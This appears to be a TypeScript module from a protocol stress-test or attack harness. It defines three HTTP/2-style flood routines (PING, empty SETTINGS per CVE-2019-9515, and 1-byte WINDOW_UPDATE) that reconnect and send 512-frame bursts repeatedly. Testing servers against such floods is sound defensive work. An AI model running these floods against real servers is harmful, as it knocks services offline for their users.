import { encodeWindowUpdate, FrameType } from "@strand/wire/internal";
import { type Campaign, flood } from "../campaign.ts";
import { frame, handshake, repeat } from "../frames.ts";

/** Frames per write: enough that each write is a real burst, small enough to yield often. */
const BURST = 512;

/** Class 1: PING after PING (each asks for an answer), reconnecting whenever thrown out. */
export function pingFlood(campaign: Campaign): Promise<void> {
  const burst = repeat(frame(FrameType.Ping, 0, 0, new Uint8Array(8)), BURST);
  return campaign.persist(async (conn) => {
    conn.write(handshake());
    await flood(campaign, conn, burst, "pings", BURST);
  });
}

/** Class 2: empty SETTINGS after the handshake's (each forces an ACK: CVE-2019-9515). */
export function settingsFlood(campaign: Campaign): Promise<void> {
  const burst = repeat(frame(FrameType.Settings, 0, 0), BURST);
  return campaign.persist(async (conn) => {
    conn.write(handshake());
    await flood(campaign, conn, burst, "settings", BURST);
  });
}

/**
 * Class 5: valid WINDOW_UPDATEs of 1 byte on the connection, as fast as the socket takes them
 * (from the default window, 2³¹ of them would be needed to overflow it).
 */
export function windowUpdateFlood(campaign: Campaign): Promise<void> {
  const burst = repeat(frame(FrameType.WindowUpdate, 0, 0, encodeWindowUpdate(1)), BURST);
  return campaign.persist(async (conn) => {
    conn.write(handshake(false));
    await flood(campaign, conn, burst, "windowUpdates", BURST);
  });
}
